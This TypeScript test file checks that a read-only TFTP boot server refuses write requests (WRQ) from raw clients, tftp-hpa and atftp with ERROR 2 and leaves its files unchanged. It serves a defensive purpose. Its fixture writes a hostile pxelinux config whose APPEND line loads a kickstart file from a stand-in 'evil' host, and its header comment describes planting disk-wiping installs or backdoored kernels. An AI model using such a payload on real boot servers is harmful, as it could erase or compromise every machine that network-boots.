// Attack: a client uploads (WRQ) to plant or overwrite a boot file — a new pxelinux.cfg/default
// that installs over every disk, or a backdoored kernel. The server is read-only: every WRQ
// gets ERROR 2 and the tree is unchanged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { oracleFacts } from '../helpers/tree-oracle.ts';
import { rrqBytes, serveRoot } from '../helpers/tftp.ts';
import { requireTool } from '../helpers/tools.ts';
import { UdpClient } from '../helpers/udp-client.ts';
import { attackLayout } from './tftp-support.ts';

test('WRQ from a raw client, tftp-hpa put and atftp --put are refused with ERROR 2; nothing in the tree changes', async (t) => {
  const { base, root } = await attackLayout(t);
  const local = join(base, 'evil.cfg');
  await writeFile(local, 'DEFAULT install\nAPPEND inst.ks=http://evil/ks.cfg\n');
  const before = oracleFacts(base);
  const { port, events } = await serveRoot(t, root);
  const c = await UdpClient.open();
  t.after(() => c.close());
  const wrq = rrqBytes('pxelinux.0', [['tsize', '50']]);
  wrq[1] = 2;
  await c.send(wrq, port);
  const reply = await c.next();
  assert.deepEqual(reply?.bytes, Uint8Array.from([0, 5, 0, 2, ...Buffer.from('writes are not allowed'), 0]));
  if (requireTool(t, 'tftp', 'atftp')) {
    // The server runs in this process: the clients must run asynchronously.
    const run = promisify(execFile);
    const hpa = await run('tftp', ['-m', 'binary', '127.0.0.1', String(port), '-c', 'put', local, 'pxelinux.0'], { timeout: 20_000 });
    assert.match(hpa.stdout + hpa.stderr, /Error code 2: writes are not allowed/);
    const at = await run('atftp', ['-p', '-l', local, '-r', 'pxelinux.cfg/default', '127.0.0.1', String(port)], { timeout: 20_000 }).then(
      () => assert.fail('atftp --put succeeded'),
      (err: { stdout: string; stderr: string }) => err,
    );
    assert.match(at.stdout + at.stderr, /writes are not allowed/);
  }
  assert.ok(events.length >= 1 && events.every((e) => e.outcome === 'write-refused'));
  assert.deepEqual(oracleFacts(base), before);
});
